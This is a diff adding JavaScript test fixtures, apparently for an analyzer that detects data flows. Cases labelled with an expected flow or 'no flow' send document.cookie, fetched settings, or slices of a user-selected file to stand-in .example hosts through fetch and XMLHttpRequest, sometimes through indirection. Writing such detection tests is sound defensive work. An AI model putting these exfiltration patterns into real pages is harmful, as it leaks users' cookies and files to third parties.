@@ -41,3 +41,89 @@ window.track = (region) => {
   region = localStorage.getItem('region');
   fetch(hosts[region] + '/v0', { method: 'POST', body: navigator.language });
 };
+
+//# serializer-handed-in-or-json
+// flow: identifier > soj.tb13.example via fetch
+// why: whichever serializer it is, JSON is one of them
+const fallback = JSON;
+function bodyOf(query, variables, serializer) {
+  const used = serializer ?? fallback;
+  return used.stringify({ query, variables });
+}
+fetch('https://soj.tb13.example/graphql', { method: 'POST', body: bodyOf('{ me }', { id: document.cookie }, window.options) });
+
+//# near-own-serializer-that-names-the-keys
+// no flow
+const own = { stringify: (object) => Object.keys(object).join() };
+function bodyOf(query, variables, serializer) {
+  const used = serializer || own;
+  return used.stringify({ query, variables });
+}
+fetch('https://oss.tb13.example/graphql', { method: 'POST', body: bodyOf('{ me }', { id: document.cookie }) });
+
+//# body-mixed-into-a-request-class
+// flow: identifier > bmr.tb13.example via xhr
+// why: `Body.call(Request.prototype)` gives requests the method that keeps the body
+function Body() {
+  this._initBody = function (body) { this._bodyInit = body; };
+  this.text = function () { return Promise.resolve(this._bodyInit); };
+  return this;
+}
+function Request(input, options) {
+  this.url = String(input);
+  this.method = options.method || 'GET';
+  this._initBody(options.body);
+}
+Body.call(Request.prototype);
+function send(input, options) {
+  const request = new Request(input, options);
+  const xhr = new XMLHttpRequest();
+  xhr.open(request.method, request.url, true);
+  xhr.send(request._bodyInit);
+}
+send('https://bmr.tb13.example/x', { method: 'POST', body: document.cookie });
+
+//# near-body-mixed-into-another-class
+// no flow
+// why: answers keep the body, and only requests are sent
+function Body() {
+  this._initBody = function (body) { this._bodyInit = body; };
+  return this;
+}
+function Answer(body) { this._initBody(body); }
+Body.call(Answer.prototype);
+function Request(input) { this.url = String(input); this._bodyInit = 'none'; }
+const kept = new Answer(document.cookie);
+const request = new Request('https://bma.tb13.example/x');
+const xhr = new XMLHttpRequest();
+xhr.open('POST', request.url, true);
+xhr.send(request._bodyInit);
+document.querySelector('#kept').textContent = kept._bodyInit;
+
+//# near-answer-read-by-a-reader
+// flow: device > arr.tb13.example via fetch
+// why: what the reader reads is what the server answered, no chosen file
+function textOf(blob) {
+  return new Promise((done) => {
+    const reader = new FileReader();
+    reader.onload = () => done(reader.result);
+    reader.readAsText(blob);
+  });
+}
+const xhr = new XMLHttpRequest();
+xhr.open('GET', '/settings');
+xhr.responseType = 'blob';
+xhr.onload = async () => {
+  const settings = await textOf(xhr.response);
+  fetch('https://arr.tb13.example/s?of=' + encodeURIComponent(settings) + '&l=' + navigator.language);
+};
+xhr.send();
+
+//# piece-of-a-file-read-by-a-reader
+// flow: file > pfr.tb13.example via fetch
+document.querySelector('input[type=file]').addEventListener('change', (event) => {
+  const piece = event.target.files[0].slice(0, 4096);
+  const reader = new FileReader();
+  reader.onload = () => fetch('https://pfr.tb13.example/', { method: 'POST', body: reader.result });
+  reader.readAsArrayBuffer(piece);
+});
